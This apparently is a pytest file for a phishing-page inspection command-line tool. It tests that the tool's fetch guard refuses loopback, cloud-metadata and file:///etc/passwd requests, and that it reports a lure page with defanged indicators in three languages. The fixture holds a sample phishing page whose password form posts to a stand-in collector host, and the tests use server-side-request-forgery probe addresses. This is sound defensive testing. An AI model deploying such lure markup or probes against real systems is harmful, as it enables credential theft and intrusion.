"""An analyst looks at one page from the command line: the same guard, and nothing that can be clicked."""

import json
from datetime import UTC, datetime

import pytest

from tests.collect.site import moved, page, site
from zvon.cli.phish_look import _show, look
from zvon.collect.fetch.client import Client
from zvon.collect.fetch.guard import Guard
from zvon.collect.fetch.page import look_at
from zvon.locale import LANGS, translator

AT = datetime(2026, 11, 22, 10, 0, tzinfo=UTC)
LURE = """<title>Posta</title><script>fetch("https://tretji.example/x")</script>
<form action="https://zbiralec.example/x"><input type=password></form>"""


async def resolve(_: str) -> tuple[str, ...]:
    return ()


def run(url: str, *, json: bool = False) -> int:
    return look(url, json=json)


def test_inner_addresses_stay_shut_and_say_so(capsys: pytest.CaptureFixture[str]) -> None:
    assert run("http://0x7f.1/a") == 1
    said = capsys.readouterr().out
    assert "this very machine" in said
    assert "http://" not in said
    assert run("http://169.254.169.254/", json=True) == 1
    capture = json.loads(capsys.readouterr().out)
    assert (capture["outcome"], capture["reason"]) == ("refused", "metadata")


def test_what_is_no_page_is_bad_input(capsys: pytest.CaptureFixture[str]) -> None:
    assert run("file:///etc/passwd") == 2
    assert "scheme" in capsys.readouterr().err


@pytest.mark.parametrize("lang", LANGS)
async def test_a_page_is_told_in_every_language(
    lang: str, capsys: pytest.CaptureFixture[str]
) -> None:
    async with (
        site({"/s": moved("/i"), "/i": page(LURE)}) as here,
        Client(Guard(resolve=resolve, allow=here.allow)) as client,
    ):
        seen = await look_at(client, here.url("/s"), AT)
    _show(seen.capture, translator(lang))
    said = capsys.readouterr().out
    words = {"sl": "geslo", "hr": "lozinka", "en": "password"}
    assert f"{words[lang]} -> zbiralec[.]example" in said
    assert "tretji[.]example" in said
    assert "Posta" in said
    assert "hxxp://" in said
    assert "PAGE_" not in said
    assert "ASKED_" not in said
